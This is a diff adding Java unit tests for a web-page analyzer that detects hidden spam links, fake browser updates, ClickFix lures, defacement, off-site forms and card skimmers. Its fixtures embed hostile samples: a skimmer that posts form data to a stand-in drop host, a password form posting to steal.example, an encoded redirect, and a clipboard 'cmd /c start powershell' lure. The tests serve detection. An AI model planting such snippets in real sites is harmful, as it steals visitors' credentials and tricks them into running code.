@@ -108,6 +108,11 @@ class PageAnalyzerTest {
   void survivesHostileHtml() {
     String deep = "<div>".repeat(100_000) + "<a href=\"/x\">x</a>" + "</div>".repeat(10);
     assertThat(analyze(deep).pageLinks()).isNotNull();
+    String frames = ("<iframe srcdoc=\"" + "&lt;div&gt;".repeat(20_000) + "&lt;script src='https://f.example/s.js'&gt;"
+        + "&lt;/script&gt;\"></iframe>").repeat(30);
+    assertThat(analyze(frames).resources()).hasSizeLessThan(100);
+    String attrs = "<img srcset=\"" + "https://a.example/x.jpg 1x, ".repeat(50_000) + "\">";
+    assertThat(analyze(attrs).hostsMentioned()).hasSizeLessThan(1100);
     String hugeAttr = "<div title=\"" + "A".repeat(1_500_000) + "\" onclick=\"" + "eval(".repeat(50_000) + "\">x</div>";
     assertThat(analyze(hugeAttr)).isNotNull();
     byte[] garbage = new byte[500_000];
@@ -122,5 +127,133 @@ class PageAnalyzerTest {
     assertThat(analyze(manyScripts)).isNotNull();
     String unclosed = "<table>".repeat(20_000) + "<select><option>".repeat(10_000);
     assertThat(analyze(unclosed)).isNotNull();
+  }
+
+  @Test
+  void moreWaysToHideSpamButNotMenusOrLayout() {
+    String links = "<a href=\"https://casino-a.example/\">オンラインカジノ</a><a href=\"https://casino-b.example/\">ネットカジノ</a>";
+    for (String style : List.of("transform:scale(0)", "max-height:0;overflow:hidden", "position:fixed;bottom:-3000px",
+        "position:absolute;clip:rect(0 0 0 0)", "opacity:0.0", "font-size:0.1px")) {
+      assertThat(checks("<div style=\"" + style + "\">" + links + "</div>")).as(style).contains("web.seo-spam");
+    }
+    assertThat(checks("<p>本文</p><noscript>" + links + "</noscript>")).contains("web.seo-spam");
+    assertThat(checks("<div id=\"x9\"><a href=\"https://a.example/\">a</a><a href=\"https://b.example/\">b</a><a "
+        + "href=\"https://c.example/\">c</a></div><script>document.getElementById('x9').style.display='none'</script>"))
+        .contains("web.seo-spam");
+    assertThat(checks("<map name=\"m\"><area href=\"https://casino-a.example/\" alt=\"オンラインカジノ\"></map>"))
+        .contains("web.seo-spam");
+    // a centred popup's margin is layout; a hidden drawer menu is mostly the site's own pages
+    assertThat(checks("<div style=\"position:absolute;left:50%;margin-left:-320px\"><a href=\"https://a.example/\">a</a>"
+        + "<a href=\"https://b.example/\">b</a><a href=\"https://c.example/\">c</a></div>")).isEmpty();
+    assertThat(checks("<div style=\"display:none\"><a href=\"/\">ホーム</a><a href=\"/menu\">メニュー</a><a href=\"/access\">"
+        + "アクセス</a><a href=\"/about\">会社案内</a><a href=\"https://temple.example/\">長谷寺</a><a href=\"https://rail.example/\">"
+        + "江ノ電</a><a href=\"https://tourism.example/\">観光協会</a></div>")).isEmpty();
+    assertThat(checks("<p><a href=\"https://shop.example/\">シャネル バッグ 激安 通販</a></p>")).contains("web.seo-spam");
+    assertThat(checks("<p><a href=\"https://shop.example/\">ルイヴィトン 財布</a></p>")).isEmpty();
+  }
+
+  @Test
+  void fakeBrowserUpdates() {
+    assertThat(checks("<div><h1>お使いのブラウザは最新ではありません</h1><p><a href=\"https://upd.example/ChromeSetup.zip\">"
+        + "今すぐ更新</a></p></div>")).contains("web.fake-update");
+    assertThat(checks("<div><h2>Your browser is out of date</h2><a href=\"http://upd.example/Update.exe\">Update</a></div>"))
+        .contains("web.fake-update");
+    assertThat(checks("<p>最新版カタログ <a href=\"https://maker.example/catalog2026.zip\">ダウンロード</a></p>")).isEmpty();
+    assertThat(checks("<p>ブラウザを最新版に更新してください。<a href=\"https://www.microsoft.com/edge\">Edge</a></p>")).isEmpty();
+  }
+
+  @Test
+  void formActionsPreloadsDataScriptsAndIocHosts() {
+    PageFacts f = analyze("<form action=\"/entry\"><input type=\"password\" name=\"pw\"><button formaction="
+        + "\"https://steal.example/e\">登録</button></form><link rel=\"modulepreload\" href=\"https://esm.example/m.js\">"
+        + "<img src=\"https://img.bad.example/b.gif\" width=\"300\">"
+        + "<script src=\"data:text/javascript;base64," + java.util.Base64.getEncoder().encodeToString(
+            "window.location.href='https://casino.example/';".getBytes()) + "\"></script>");
+    assertThat(f.resources()).extracting(r -> r.kind() + " " + Sites.host(r.url())).contains("FORM steal.example",
+        "SCRIPT esm.example");
+    assertThat(f.observations()).extracting(Observation::check).contains("web.form-offsite", "web.redirect-offsite");
+    assertThat(f.hostsMentioned()).contains("img.bad.example");
+    assertThat(checks("<meta http-equiv=\"refresh\" content=\"3; URL = 'https://fake.example/'\">")).contains("web.redirect-offsite");
+  }
+
+  @Test
+  void aNormalPageBehindABotProtectionServiceIsStillChecked() {
+    String page = "<html><head><title>会社</title></head><body>" + "<p>当社は東大阪の町工場です。</p>".repeat(100)
+        + "<a href=\"/a\">a</a><a href=\"/b\">b</a><a href=\"/c\">c</a><a href=\"/d\">d</a><a href=\"/e\">e</a>"
+        + "<script>a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';</script></body></html>";
+    assertThat(analyze(page).blockedPage()).isFalse();
+    assertThat(analyze("<html><head><title>Just a moment...</title></head><body><div id=\"cf-chl-widget\">Checking your "
+        + "browser</div><script src=\"/cdn-cgi/challenge-platform/h/b/orchestrate/jsch/v1\"></script></body></html>")
+        .blockedPage()).isTrue();
+  }
+
+  @Test
+  void pagesOnlyARobotIsLinkedTo() {
+    String nav = "<a href=\"/about/\">about</a><a href=\"/news/\">news</a>";
+    StringBuilder doorways = new StringBuilder(nav);
+    for (int n = 1; n <= 6; n++) {
+      doorways.append("<a href=\"/?p=kopi-").append(n).append("\">").append(n).append("</a>");
+    }
+    PageFacts visitor = analyzer.analyze(nav.getBytes(StandardCharsets.UTF_8), PAGE, false);
+    PageFacts bot = analyzer.analyze(doorways.toString().getBytes(StandardCharsets.UTF_8), PAGE, true);
+    assertThat(Patrol.robotOnlyPages(bot, visitor, visitor)).contains("/?p=kopi-1");
+    // visitors' own views already differ as much (rotating "related posts"): no sign
+    PageFacts other = analyzer.analyze((nav + doorways.substring(nav.length()).replace("kopi", "post")).getBytes(
+        StandardCharsets.UTF_8), PAGE, false);
+    assertThat(Patrol.robotOnlyPages(bot, visitor, other)).isNull();
+  }
+
+  @Test
+  void clickFixPagesAndCrewSignatures() {
+    String steps = "<p>確認のため：Windows キー + R を押し、Ctrl + V を押して Enter を押してください。</p>";
+    assertThat(checks(steps + "<script>document.getElementById('c').onclick=function(){navigator.clipboard.writeText(x)}"
+        + "</script>")).contains("web.fake-update");
+    // the same keyboard help without anything put on the clipboard is a help page
+    assertThat(checks(steps)).doesNotContain("web.fake-update");
+    // Japanese text right after the key letter ("Windowsキー＋Rを押します"), copied with execCommand
+    assertThat(checks("<p>1. Windowsキー＋Rを押します<br>2. Ctrl＋Vで貼り付けます</p><textarea id=t>cmd /c start powershell"
+        + "</textarea><script>b.onclick=function(){t.select();document.execCommand('copy')}</script>"))
+        .contains("web.fake-update");
+    assertThat(checks("<title>./Gh0stSec</title><img src=x.gif>")).contains("web.defacement");
+    assertThat(checks("<center><h1>~ Touched By ./Sec7or Team ~</h1></center>")).contains("web.defacement");
+    assertThat(checks("<h1>このホームページは乗っ取られています</h1>")).contains("web.defacement");
+    // an owner's notice about an incident, and a page that merely says "touched by"
+    assertThat(checks("<p>当サイトは一時的にハッキングされていましたが、現在は復旧しています。ご迷惑をおかけしました。</p>"))
+        .doesNotContain("web.defacement");
+    assertThat(checks("<p>Guests are touched by the warm hospitality of our staff.</p>")).doesNotContain("web.defacement");
+  }
+
+  @Test
+  void framesStylesheetsConfigAndDeclaredHosts() {
+    PageFacts srcdoc = analyze("<iframe srcdoc=\"<script src='https://frame-js.example/s.js'></script>\" "
+        + "style=\"display:none\"></iframe>");
+    assertThat(srcdoc.resources()).anyMatch(r -> r.kind() == Kind.SCRIPT && r.url().getHost().equals("frame-js.example"));
+    assertThat(srcdoc.observations()).extracting(Observation::check).contains("web.hidden-iframe");
+    assertThat(analyze("<link rel=\"preload\" as=\"style\" href=\"https://css.example/a.css\">").resources())
+        .anyMatch(r -> r.kind() == Kind.STYLESHEET);
+    // a drop URL kept in a meta tag of the page's own naming reaches the script that reads it
+    assertThat(checks("<meta name=\"x-endpoint\" content=\"https://drop.example/r\"><script>document.addEventListener('submit',"
+        + "function(e){fetch(document.querySelector('meta[name=x-endpoint]').content,{method:'POST',body:JSON.stringify("
+        + "Object.fromEntries(new FormData(e.target)))})});</script>")).contains("web.skimmer");
+    assertThat(checks("<meta property=\"og:image\" content=\"https://cdn.example/o.jpg\"><script>document.addEventListener("
+        + "'submit',function(e){fetch('/api',{method:'POST',body:JSON.stringify(Object.fromEntries(new FormData(e.target)))})"
+        + "});</script>")).doesNotContain("web.skimmer");
+    PageFacts hosts = analyze("<img srcset=\"https://img.srcset.example/a.jpg 2x\"><div style=\"background:url(//bg.example/b.png)"
+        + "\"></div><link rel=\"canonical\" href=\"https://other-site.example/x\"><link rel=\"alternate\" type=\"application/"
+        + "rss+xml\" href=\"https://feeds.example/rss\">");
+    assertThat(hosts.hostsMentioned()).contains("img.srcset.example", "bg.example");
+    assertThat(hosts.declaredHosts()).containsExactly("other-site.example");
+  }
+
+  @Test
+  void brandLinksTogetherAndLinkListsBehindAccessibilityClasses() {
+    String one = "<a href=\"https://brand.example/lv\">ルイヴィトン 財布 激安</a>";
+    String more = one + "<a href=\"https://brand.example/gucci\">グッチ バッグ 通販</a>";
+    assertThat(checks("<p>" + one + "</p>")).doesNotContain("web.seo-spam");
+    assertThat(checks("<p>" + more + "</p>")).contains("web.seo-spam");
+    // screen-reader text is left alone; a list of other sites' links in a screen-reader class is not screen-reader text
+    assertThat(checks("<span class=\"sr-only\">（新しいウィンドウで開きます）</span>")).isEmpty();
+    assertThat(checks("<div class=\"sr-only\"><a href=\"https://a.example/\">ルイヴィトン 財布</a><a href=\"https://b.example/\">"
+        + "シャネル 通販</a><a href=\"https://c.example/\">ロレックス 新作</a></div>")).contains("web.seo-spam");
   }
 }
